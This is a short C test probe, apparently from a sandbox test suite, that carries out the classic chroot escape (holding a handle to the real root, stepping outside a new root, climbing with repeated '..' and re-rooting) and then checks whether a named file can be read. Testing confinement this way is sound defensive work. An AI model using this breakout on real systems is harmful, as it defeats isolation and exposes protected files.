#include "../probe.h"

int main(void) {
  /* The old way out: a root below, then upwards from a directory outside it. */
  const char *path = value("FILE");
  int top = open("/", O_RDONLY);
  mkdir("/sub", 0755);
  if (chroot("/sub") || fchdir(top)) {
    held("chroot");
  }
  for (int i = 0; i < 64; i++) {
    if (chdir("..")) {
      break;
    }
  }
  if (chroot(".")) {
    held("chroot");
  }
  readable(path);
}
